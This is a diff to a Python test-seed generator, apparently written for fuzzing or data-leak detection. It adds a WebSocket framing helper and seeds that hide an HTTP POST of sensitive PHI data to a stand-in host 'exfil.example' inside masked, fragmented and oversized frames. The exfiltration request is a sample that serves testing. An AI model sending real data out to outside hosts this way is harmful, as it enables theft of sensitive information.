@@ -91,3 +91,37 @@ write("smb2-session-small-pieces", 0x00, session2(PHI))
 write("smb2-session-gap", 0x83, session2(PHI * 20))
 write("smb1-session", 0x7f, session1(PHI))
 write("smb1-session-pieces", 0x01, session1(PHI * 3))
+
+
+def ws_frame(payload, opcode=2, mask=None, fin=True):
+    b0 = (0x80 if fin else 0) | opcode
+    n = len(payload)
+    if n < 126:
+        h = bytes([b0, (0x80 if mask else 0) | n])
+    elif n < 65536:
+        h = bytes([b0, (0x80 if mask else 0) | 126]) + struct.pack(">H", n)
+    else:
+        h = bytes([b0, (0x80 if mask else 0) | 127]) + struct.pack(">Q", n)
+    if mask:
+        payload = bytes(c ^ mask[i & 3] for i, c in enumerate(payload))
+        h += mask
+    return h + payload
+
+
+# WebSocket seeds (written beside the SMB ones' directory: OUTDIR/../websocket)
+wsout = os.path.join(os.path.dirname(os.path.abspath(out)), "websocket")
+os.makedirs(wsout, exist_ok=True)
+req = b"POST /upload HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: %d\r\n\r\n" % len(PHI)
+resp = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
+for name, step, recs in (
+        ("http-in-websocket", 0x7f, [(0, ws_frame(req + PHI, mask=b"\x11\x22\x33\x44")),
+                                     (1, ws_frame(resp))]),
+        ("fragmented-and-control", 0x00, [(0, ws_frame(req[:10], 2, b"abcd", False)),
+                                          (0, ws_frame(b"", 9, b"abcd")),
+                                          (0, ws_frame(req[10:] + PHI, 0, b"wxyz")),
+                                          (1, ws_frame(b"x" * 300)), (1, ws_frame(b"", 8))]),
+        ("long-frame", 0x85, [(0, ws_frame(req + PHI * 1000, mask=b"\x01\x02\x03\x04"))])):
+    with open(os.path.join(wsout, name), "wb") as f:
+        f.write(bytes([step]))
+        for d, b in recs:
+            f.write(struct.pack("<BH", d, len(b) & 0xffff) + b)
